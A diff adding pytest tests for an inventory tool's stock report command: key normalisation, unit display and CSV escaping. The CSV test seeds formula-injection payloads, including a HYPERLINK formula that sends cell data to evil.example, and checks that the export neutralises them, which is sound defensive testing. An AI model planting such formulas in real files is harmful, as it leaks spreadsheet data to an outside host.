@@ -17,9 +17,11 @@ import pytest
 from config import load_config
 from erpsync.cli import run_cli
 from erpsync.wiring import location_specs
+from mapping.records import Product
 from store import stock
 from store.db import make_engine
 from store.locations import apply_locations
+from sync.reconcile import PageContext, reconcile_products
 
 DOCS = Path(__file__).resolve().parents[2] / "docs" / "stock.md"
 
@@ -140,3 +142,46 @@ def test_report_formats(config: Path, capsys: pytest.CaptureFixture[str]) -> Non
     data = json.loads(capsys.readouterr().out)
     assert {(r["sku"], r["available"]) for r in data} == {("TEA-001", 12), ("POT-020", 4)}
     assert cli(config, "stock", "report", "--format", "xml") == 2
+
+
+def test_report_arguments_follow_the_key_rule(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert (
+        cli(config, "stock", "report", "--format", "json", "--sku", "TEA-001 ", "--location", " DS-GZ") == 0
+    )
+    assert [(r["sku"], r["location"]) for r in json.loads(capsys.readouterr().out)] == [("TEA-001", "DS-GZ")]
+    assert cli(config, "stock", "report", "--sku", "TEA\t001") == 2
+    assert "control character U+0009" in capsys.readouterr().err
+
+
+def test_report_shows_each_skus_unit(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    engine = make_engine(f"sqlite:///{config.parent / 'e.db'}")
+    with engine.begin() as conn:
+        reconcile_products(conn, [Product(sku="TEA-001", name="Green tea", uom="g")], PageContext("erp", 1))
+    engine.dispose()
+    assert cli(config, "stock", "report", "--format", "json", "--location", "DS-GZ") == 0
+    assert {(r["sku"], r["unit"]) for r in json.loads(capsys.readouterr().out)} == {
+        ("TEA-001", "g"),
+        ("POT-020", ""),  # a level that arrived before its product
+    }
+    assert cli(config, "stock", "report", "--sku", "TEA-001") == 0
+    assert re.search(r"TEA-001\s*│\s*g\s*│\s*DS-GZ", capsys.readouterr().out)
+
+
+def test_report_csv_cells_never_run_as_formulas(
+    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+    engine = make_engine(f"sqlite:///{tmp_path / 'e.db'}")
+    with engine.begin() as conn:
+        ids = dict(conn.exec_driver_sql("SELECT code, id FROM location").tuples().all())
+        for sku in hostile:
+            stock.adjust(conn, sku, ids["DS-GZ"], 3, ref="count")
+        stock.adjust(conn, "NEG-1", ids["DS-GZ"], -4, ref="write-off before the count")
+    engine.dispose()
+
+    assert cli(config, "stock", "report", "--format", "csv", "--location", "DS-GZ") == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
+    skus = {row[0] for row in rows[1:]}
+    assert {"'" + sku for sku in hostile} <= skus
+    assert not skus & set(hostile)
+    assert next(row for row in rows if row[0] == "NEG-1")[3] == "-4"  # a number, not a formula
